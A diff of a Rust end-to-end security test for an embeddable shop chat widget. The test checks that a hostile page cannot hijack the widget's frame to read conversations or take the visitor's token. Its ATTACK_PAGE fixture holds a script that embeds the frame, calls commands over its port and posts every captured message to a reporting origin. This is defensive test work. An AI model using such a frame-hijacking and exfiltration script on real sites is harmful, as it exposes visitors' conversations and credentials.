@@ -3,6 +3,7 @@
 //! of a shop and tries to use it: to read the visitor's conversation, to write in it, or to get the visitor's token.
 
 use std::collections::BTreeSet;
+use std::path::Path;
 
 use pipit_e2e::{AgentAtDesk, Recorder, TestServer, Visitor, wait_for};
 use serde_json::{Value, json};
@@ -14,7 +15,7 @@ const SHOP_PAGE: &str = r#"<!doctype html><html lang="en"><body>
 /// The hostile page. It embeds the shop's frame, gives it a port as a page with the widget does, and calls commands
 /// over the port. It sends every message of the frame to the origin `report`: those from the port to `/obtained`, the
 /// others to `/offer`. The page's query contains the attack as JSON.
-const ATTACK_PAGE: &str = r##"<!doctype html><html lang="en"><body><script>
+const ATTACK_PAGE: &str = r#"<!doctype html><html lang="en"><body><script>
     const { address, report, options, answers, text } = JSON.parse(decodeURIComponent(location.search.slice(1)));
     const sendReport = (path, body) => fetch(report + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
     const frame = document.createElement("iframe");
@@ -42,7 +43,7 @@ const ATTACK_PAGE: &str = r##"<!doctype html><html lang="en"><body><script>
     frame.onload = () => { callCommands(); setTimeout(() => sendReport("/done", {}), isRefused ? 1000 : 5000); };
     frame.src = `${address}#n1`;
     document.body.append(frame);
-</script></body></html>"##;
+</script></body></html>"#;
 
 /// A page of the shop that embeds the hostile page in an iframe with the attribute `sandbox`, as for content of strangers.
 const SANDBOX_PAGE: &str = r#"<!doctype html><html lang="en"><body><script>
@@ -269,7 +270,11 @@ async fn a_listed_page_has_a_conversation_of_its_own_in_the_frame_without_cookie
         // shop, and without cookies.
         let requests = scene.shop.requests().split_off(count_before);
         assert!(requests.iter().all(|it| it.method == "GET"), "{requests:?}");
-        let modules = requests.iter().filter(|it| it.path.ends_with(".wasm"));
+        let modules = requests.iter().filter(|it| {
+            Path::new(&it.path)
+                .extension()
+                .is_some_and(|it| it == "wasm")
+        });
         let with_cookies = modules.filter(|it| it.header("cookie").is_some());
         assert_eq!(with_cookies.count(), 0);
         // The frame does not show the conversation of the tab with the shop.
